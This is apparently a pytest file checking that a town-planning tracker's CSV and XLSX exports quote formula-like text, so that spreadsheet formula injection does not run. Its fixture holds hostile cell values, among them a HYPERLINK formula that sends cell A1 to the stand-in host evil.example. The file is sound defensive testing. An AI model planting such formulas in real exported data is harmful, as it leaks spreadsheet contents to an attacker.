"""No exported cell runs as a formula (issue 15, finding 4; tracker/spreadsheets.py).

A probe titled a target `=HYPERLINK(...)` and got a live formula in the CSV
and the XLSX downloads; the seed's "= 完成" comparison label became twenty
broken formula cells.
"""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from tests import factories
from tracker.spreadsheets import safe_cell, safe_xlsx_cell

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "unit": "+亩",
    "quote": "@SUM(1+1)",
    "department": "-2+3",
    "section": "\t=1+1",
}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+86 757", "'+86 757"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("完成 = 100%", "完成 = 100%"),
        ("", ""),
        (Decimal("-3.5"), Decimal("-3.5")),  # a number stays a number
        (-2, -2),
        (None, None),
    ],
)
def test_safe_cell_makes_formula_like_text_plain_text(value, written):
    assert safe_cell(value) == written


def test_safe_xlsx_cell_writes_formula_like_text_as_quoted_text():
    sheet = Workbook(write_only=True).create_sheet()
    cell = safe_xlsx_cell(sheet, "=1+1")
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+1", "s", True)
    assert safe_xlsx_cell(sheet, "村级工业园") == "村级工业园"
    assert safe_xlsx_cell(sheet, -2.5) == -2.5


@pytest.fixture
def hostile_plan(db):
    town = factories.TownFactory(name="西樵镇", slug="xiqiao")
    plan = factories.PlanFactory(town=town, year=2024)
    section = factories.SectionFactory(plan=plan, title=HOSTILE["section"])
    department = factories.DepartmentFactory(town=town, name=HOSTILE["department"])
    factories.TargetFactory(
        section=section,
        title=HOSTILE["title"],
        unit=HOSTILE["unit"],
        quote=HOSTILE["quote"],
        lead_department=department,
        value=Decimal("2500"),
    )
    return plan


EXPORTS = {
    "page": "/towns/xiqiao/2024/targets.{fmt}",
    "api": "/api/targets/export.{fmt}?town=xiqiao&year=2024",
}


def cells_of(response, fmt: str) -> list:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if fmt == "csv":
        return [
            cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row
        ]
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("face", EXPORTS)
def test_no_csv_cell_starts_a_formula(client, hostile_plan, face):
    response = client.get(EXPORTS[face].format(fmt="csv"))
    assert response.status_code == 200
    cells = cells_of(response, "csv")
    risky = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert risky == []
    assert "'" + HOSTILE["title"] in cells
    assert "'+亩" in cells
    assert "2500" in cells  # a number is written as it was


@pytest.mark.parametrize("face", EXPORTS)
def test_no_xlsx_cell_is_a_formula(client, hostile_plan, face):
    response = client.get(EXPORTS[face].format(fmt="xlsx"))
    assert response.status_code == 200
    cells = cells_of(response, "xlsx")
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    for text in (HOSTILE["title"], HOSTILE["unit"], HOSTILE["quote"], HOSTILE["department"]):
        assert texts[text].data_type == "s"  # shown exactly as written, as text
        assert texts[text].quotePrefix
    assert 2500 in [cell.value for cell in cells]  # still a number
